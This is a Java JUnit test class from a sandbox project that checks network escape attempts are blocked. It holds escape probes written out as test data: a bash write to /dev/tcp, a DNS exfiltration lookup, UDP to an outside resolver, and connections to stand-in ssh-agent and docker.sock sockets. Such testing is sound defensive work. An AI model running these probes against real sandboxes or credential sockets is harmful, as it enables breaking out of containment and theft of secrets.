package dev.warden.sandbox.escape;

import org.junit.jupiter.api.Test;

import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.net.InetSocketAddress;
import java.net.StandardProtocolFamily;
import java.net.UnixDomainSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.DatagramChannel;
import java.nio.channels.ServerSocketChannel;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.UUID;

import static org.assertj.core.api.Assertions.assertThat;

/** ESCAPES.md cases 17–20 with the network off: no byte may reach a host listener. */
abstract class NetworkEscapes extends EscapeCases {
    NetworkEscapes(BackendUnderTest under) {
        super(under);
    }

    @Test
    void case17_tcpAndUdpToLocalServers() throws Exception {
        try (ServerSocketChannel tcp = ServerSocketChannel.open().bind(new InetSocketAddress("127.0.0.1", 0));
             DatagramChannel udp = DatagramChannel.open().bind(new InetSocketAddress("127.0.0.1", 0))) {
            tcp.configureBlocking(false);
            udp.configureBlocking(false);
            int tcpPort = ((InetSocketAddress) tcp.getLocalAddress()).getPort();
            int udpPort = ((InetSocketAddress) udp.getLocalAddress()).getPort();
            Run r = bash("echo escaped > /dev/tcp/127.0.0.1/" + tcpPort + " && echo ESCAPED bash-tcp;"
                    + PYTHON + " " + probe + " tcp " + tcpPort + "; " + PYTHON + " " + probe + " udp 127.0.0.1 " + udpPort);
            assertThat(r.out()).doesNotContain("ESCAPED").doesNotContain("tcp OK").doesNotContain("udp OK");
            // A completed TCP handshake sits in the backlog even if nobody accepted it.
            assertThat(tcp.accept()).as("TCP connection reached the host").isNull();
            assertThat(udp.receive(ByteBuffer.allocate(64))).as("UDP datagram reached the host").isNull();
        }
    }

    @Test
    void case18_dnsExfiltration() {
        Run r = bash("getent hosts secret.example && echo ESCAPED getent;"
                + PYTHON + " " + probe + " udp 1.1.1.1 53; " + PYTHON + " " + probe + " udp 127.0.0.53 53");
        assertThat(r.out()).doesNotContain("ESCAPED").doesNotContain("udp OK");
    }

    @Test
    void case19_abstractUnixSocketOfAHostProcess() throws Exception {
        String name = "warden-escape-" + UUID.randomUUID();
        Path marker = f.root.resolve("abstract-hit");
        Process server = new ProcessBuilder(PYTHON, "-c", "import socket,sys\n"
                + "s=socket.socket(socket.AF_UNIX); s.bind('\\0" + name + "'); s.listen(); print('ready', flush=True)\n"
                + "s.settimeout(20); c,_=s.accept(); open(sys.argv[1],'w').write('hit')\n", marker.toString()).start();
        try {
            var ready = new BufferedReader(new InputStreamReader(server.getInputStream())).readLine();
            assertThat(ready).isEqualTo("ready");
            Run r = probe("abstract", name);
            Thread.sleep(100);
            assertThat(r.out()).doesNotContain("abstract OK");
            assertThat(marker).doesNotExist();
        } finally {
            server.destroyForcibly().waitFor();
        }
    }

    @Test
    void case20_pathnameUnixSocketsOutsideTheWorkspace() throws Exception {
        // Stand-ins: an ssh agent socket in a denied directory, docker.sock under /run, and a socket in
        // an ordinary readable directory outside the workspace.
        Path agent = f.home.resolve(".ssh/agent.sock");
        Path runDir = Path.of("/run/warden-escape-" + f.root.getFileName());
        Path docker = runDir.resolve("docker.sock");
        Path plain = f.outside.resolve("app.sock");
        Files.createDirectories(runDir);
        try (ServerSocketChannel a = listen(agent); ServerSocketChannel d = listen(docker);
             ServerSocketChannel p = listen(plain)) {
            Run r = bash(PYTHON + " " + probe + " unix " + agent + "; " + PYTHON + " " + probe + " unix " + docker
                    + "; " + PYTHON + " " + probe + " unix " + plain);
            assertThat(a.accept()).as("reached the agent socket in a denied directory: %s", r).isNull();
            assertThat(d.accept()).as("reached the socket under /run: %s", r).isNull();
            expect(20, p.accept() == null, r);
        } finally {
            Files.deleteIfExists(docker);
            Files.deleteIfExists(runDir);
        }
    }

    private static ServerSocketChannel listen(Path path) throws Exception {
        Files.deleteIfExists(path);
        ServerSocketChannel server = ServerSocketChannel.open(StandardProtocolFamily.UNIX);
        server.bind(UnixDomainSocketAddress.of(path));
        server.configureBlocking(false);
        return server;
    }
}
